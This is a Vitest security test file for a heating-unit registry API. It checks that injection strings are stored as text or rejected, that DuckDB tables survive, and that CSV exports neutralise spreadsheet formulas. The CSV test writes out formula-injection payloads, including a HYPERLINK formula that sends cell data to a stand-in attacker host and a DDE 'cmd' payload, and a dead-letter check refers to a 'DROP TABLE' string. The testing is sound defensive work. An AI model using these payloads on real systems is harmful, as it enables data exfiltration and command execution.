/**
 * SQL and command injection strings in every text field the API takes — registry entities (upsert and
 * import), usernames and display names, query parameters, telemetry units and fault codes, MQTT-facing
 * ids — are stored as text or rejected with a 4xx, never executed: afterwards every DuckDB table still
 * answers, counts are what they were, and no command ran.
 */
import { existsSync, rmSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RunningPlatform } from '../../src/main/platform.js';
import { REGISTRY_KINDS } from '../../src/domain/registry.js';
import { PASSWORD, entitiesOf, ids, seedFixture, type Fixture } from './support/fixture.js';
import { INJECTION_MARKER_FILE, INJECTIONS } from './support/injections.js';
import { client, startSecurityPlatform, type Caller, type Client } from './support/platform.js';

const PWNED = INJECTION_MARKER_FILE;

describe('injection strings are data, never code', () => {
  let platform: RunningPlatform;
  let http: Client;
  let fx: Fixture;
  let baseline: { readings: number; counts: Record<string, number>; audit: number };
  beforeAll(async () => {
    rmSync(PWNED, { force: true });
    platform = await startSecurityPlatform();
    http = client(platform.url);
    fx = await seedFixture(http, { users: ['operator', 'regulator'] });
    baseline = await tableState(fx.admin);
  });
  afterAll(async () => {
    await platform?.close();
  });

  /** One answer from every table behind the API (readings, registry, users, tokens, dead letters, audit). */
  const tableState = async (admin: Caller) => {
    const health = (await http.request(null, 'GET', '/healthz')).json as { status: string; readings: number };
    expect(health.status).toBe('ok');
    const counts: Record<string, number> = {};
    for (const k of REGISTRY_KINDS) {
      const res = await http.request(admin, 'GET', `/api/v1/registry/${k}`);
      expect(res.status).toBe(200);
      counts[k] = (res.json as { items: unknown[] }).items.length;
    }
    for (const p of ['/api/v1/users', '/api/v1/tokens', '/api/v1/dead-letters?limit=1000']) expect((await http.request(admin, 'GET', p)).status).toBe(200);
    const audit = (await http.request(admin, 'GET', '/api/v1/audit?limit=1000')).json as { items: unknown[] };
    return { readings: health.readings, counts, audit: audit.items.length };
  };

  it('answers searches and filters with injection strings as plain text (no extra rows; before any such text is stored)', async () => {
    for (const s of INJECTIONS) {
      const q = encodeURIComponent(s);
      for (const path of [`/api/v1/sites?q=${q}`, `/api/v1/sites?villageId=${q}`]) {
        const res = await http.request(fx.sessions.regulator, 'GET', path);
        // Too long for a village id is a 400; otherwise a search that matches nothing.
        expect([200, 400], path).toContain(res.status);
        if (res.status === 200) expect((res.json as { total: number }).total, path).toBe(0);
      }
      const audit = await http.request(fx.admin, 'GET', `/api/v1/audit?actor=${q}`);
      expect(audit.status).toBe(200);
      expect((audit.json as { items: unknown[] }).items).toEqual([]);
    }
  });

  it('stores injection strings in registry text fields verbatim (upsert and import)', async () => {
    const base = entitiesOf({ id: 'yq-kangzhuang-h007', villageId: 'yq-kangzhuang', operatorOrgId: 'op-beinuan' });
    for (const [n, s] of INJECTIONS.entries()) {
      const text = s.replace('\u0000', '');
      const items: Record<string, unknown[]> = {
        areas: [{ id: 'hb-xiaying', kind: 'village', parentId: 'hb-zhangjiakou', name: text, nameZh: text }],
        organisations: [{ id: 'op-hebei', kind: 'heating-operator', name: text, nameZh: text }],
        programmes: [{ id: 'prog-inj', name: text, year: 2020, areaId: 'bj', description: text }],
        transformers: [{ id: 'hb-xiaying-tx1', villageId: 'hb-xiaying', name: text, ratingKva: 100 }],
        sites: [{ ...base.sites[0], name: text, address: text }],
        units: [{ ...base.units[0], manufacturer: text, model: text, refrigerant: text.slice(0, 40), serialNumber: text }],
        meters: [{ ...base.meters[0], accuracyClass: text, model: text }],
      };
      for (const [kind, list] of Object.entries(items)) {
        const res = await http.request(fx.admin, 'PUT', `/api/v1/registry/${kind}`, { json: { items: list } });
        expect(res.status, `${kind} #${n}: ${res.text}`).toBe(200);
        const stored = ((await http.request(fx.admin, 'GET', `/api/v1/registry/${kind}`)).json as { items: { id: string }[] }).items.find((e) => e.id === (list[0] as { id: string }).id);
        for (const [field, value] of Object.entries(list[0] as Record<string, unknown>)) if (typeof value === 'string') expect(stored?.[field as 'id'], `${kind}.${field}`).toBe(value.trim());
      }
      // The same through a bulk import file, by the operator who owns the site.
      const file = { name: 'sites.json', contentBase64: Buffer.from(JSON.stringify({ sites: [{ ...base.sites[0], name: `imported ${text}` }] })).toString('base64') };
      const imp = await http.request(fx.sessions.operator, 'POST', '/api/v1/registry/import', { json: { files: [file] } });
      expect(imp.status, imp.text).toBe(200);
      const detail = (await http.request(fx.sessions.operator, 'GET', '/api/v1/sites/yq-kangzhuang-h007')).json as { site: { name: string } };
      expect(detail.site.name).toBe(`imported ${text}`.trim());
    }
  });

  it('rejects injection strings where an id, enum, number or code is expected (4xx, never 500)', async () => {
    const base = entitiesOf({ id: 'yq-kangzhuang-h007', villageId: 'yq-kangzhuang', operatorOrgId: 'op-beinuan' });
    const device: Caller = { kind: 'device', name: 'd', deviceId: ids('yq-kangzhuang-h007').device, secret: fx.deviceSecrets.get(ids('yq-kangzhuang-h007').device) as string };
    for (const s of INJECTIONS) {
      const q = encodeURIComponent(s);
      const attempts: [Caller | null, string, string, unknown?][] = [
        [fx.admin, 'PUT', '/api/v1/registry/sites', { items: [{ ...base.sites[0], id: s }] }],
        [fx.admin, 'PUT', '/api/v1/registry/sites', { items: [{ ...base.sites[0], kind: s }] }],
        [fx.admin, 'PUT', '/api/v1/registry/units', { items: [{ ...base.units[0], installedOn: s }] }],
        [fx.admin, 'PUT', `/api/v1/registry/${q}`, { items: [{}] }],
        [null, 'POST', '/api/v1/auth/login', { username: s, password: s }],
        [fx.admin, 'POST', '/api/v1/users', { username: s, displayName: 'x', role: 'technician', orgId: 'op-beinuan', scopeAreaId: 'bj', password: PASSWORD }],
        [fx.admin, 'POST', '/api/v1/users', { username: 'injtest', displayName: 'x', role: s, orgId: 'op-beinuan', scopeAreaId: 'bj', password: PASSWORD }],
        [fx.admin, 'POST', '/api/v1/users', { username: 'injtest', displayName: 'x', role: 'technician', orgId: s, scopeAreaId: 'bj', password: PASSWORD }],
        [fx.admin, 'POST', `/api/v1/users/${q}/password`, { password: PASSWORD }],
        [fx.admin, 'POST', `/api/v1/devices/${q}/credentials`],
        [fx.sessions.operator, 'DELETE', `/api/v1/tokens/${q}`],
        [fx.admin, 'GET', `/api/v1/sites/${q}`],
        [fx.admin, 'GET', `/api/v1/units/${q}/series?from=0&to=1000`],
        [fx.admin, 'GET', `/api/v1/units/${ids('yq-zhangshanying-h001').unit}/series?from=${q}&to=1000`],
        [fx.admin, 'GET', `/api/v1/units/${ids('yq-zhangshanying-h001').unit}/series?from=0&to=1000&channels=${q}`],
        [fx.admin, 'GET', `/api/v1/units/${ids('yq-zhangshanying-h001').unit}/series?from=0&to=1000&resolution=${q}`],
        [fx.admin, 'GET', `/api/v1/registry/export?format=${q}`],
        [fx.admin, 'GET', `/api/v1/audit?limit=${q}`],
        [fx.admin, 'GET', `/api/v1/sites?status=${q}`],
        [device, 'POST', '/api/v1/telemetry', { ts: Date.now() - 1000, values: { indoorTempC: 20 }, fault: s }],
        [device, 'POST', '/api/v1/telemetry', { ts: Date.now() - 1000, unit: s, values: { indoorTempC: 20 } }],
        [device, 'POST', '/api/v1/telemetry', { ts: s, values: { indoorTempC: 20 } }],
        [device, 'POST', '/api/v1/telemetry', { ts: Date.now() - 1000, values: { [s]: 20 } }],
      ];
      for (const [who, method, path, json] of attempts) {
        const res = await http.request(who, method, path, json === undefined ? {} : { json });
        expect(res.status, `${method} ${path} ${JSON.stringify(json)?.slice(0, 200)}: ${res.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
        expect(res.status, `${method} ${path}`).toBeLessThan(500);
      }
    }
  });

  it('keeps a display name with injection strings as text, and the refused fault code as a dead letter', async () => {
    const s = INJECTIONS[0];
    const res = await http.request(fx.admin, 'POST', '/api/v1/users', { json: { username: 'bobby.tables', displayName: s, role: 'technician', orgId: 'op-beinuan', scopeAreaId: 'bj', password: PASSWORD } });
    expect(res.status, res.text).toBe(201);
    expect((res.json as { displayName: string }).displayName).toBe(s);
    const letters = (await http.request(fx.admin, 'GET', '/api/v1/dead-letters?limit=1000')).json as { items: { payload: string; reason: string }[] };
    expect(letters.items.some((l) => l.payload.includes('DROP TABLE readings') && /fault/.test(l.reason))).toBe(true);
  });

  it('exports formula-like text to CSV as text (no formula injection into a regulator\'s spreadsheet), and imports it back unchanged', async () => {
    const base = entitiesOf({ id: 'yq-kangzhuang-h007', villageId: 'yq-kangzhuang', operatorOrgId: 'op-beinuan' });
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', "'=already quoted", 'plain name'];
    for (const name of names) {
      expect((await http.request(fx.sessions.operator, 'PUT', '/api/v1/registry/sites', { json: { items: [{ ...base.sites[0], name }] } })).status).toBe(200);
      const exp = (await http.request(fx.sessions.regulator, 'GET', '/api/v1/registry/export?format=csv')).json as { files: { name: string; content: string }[] };
      const csv = exp.files.find((f) => f.name === 'sites.csv')?.content ?? '';
      const cells = csv.split('\n').flatMap((line) => line.split(',')).map((c) => c.replace(/^"/, ''));
      expect(cells.filter((c) => /^[=+\-@]/.test(c)), name).toEqual([]);
      const file = { name: 'sites.csv', contentBase64: Buffer.from(csv).toString('base64') };
      const back = await http.request(fx.sessions.operator, 'POST', '/api/v1/registry/import', { json: { files: [file], dryRun: false } });
      // The regulator's export holds the competitor's sites too: the operator may import only its own rows.
      expect([200, 403]).toContain(back.status);
      const own = csv.split('\n').filter((l, i) => i === 0 || l.startsWith('yq-kangzhuang-h007,')).join('\n');
      const mine = await http.request(fx.sessions.operator, 'POST', '/api/v1/registry/import', { json: { files: [{ name: 'sites.csv', contentBase64: Buffer.from(own).toString('base64') }] } });
      expect(mine.status, mine.text).toBe(200);
      expect(((await http.request(fx.sessions.operator, 'GET', '/api/v1/sites/yq-kangzhuang-h007')).json as { site: { name: string } }).site.name).toBe(name);
    }
  });

  it('leaves every table intact and runs no command', async () => {
    const after = await tableState(fx.admin);
    expect(after.readings).toBeGreaterThanOrEqual(baseline.readings);
    expect(after.counts).toEqual({ ...baseline.counts, programmes: (baseline.counts.programmes ?? 0) + 1 });
    expect(after.audit).toBeGreaterThan(baseline.audit);
    expect(existsSync(PWNED)).toBe(false);
    // Users and sessions tables: the operator's session still resolves to the operator.
    expect((await http.request(fx.sessions.operator, 'GET', '/api/v1/auth/me')).json).toMatchObject({ user: { username: 'operator' } });
  });
});
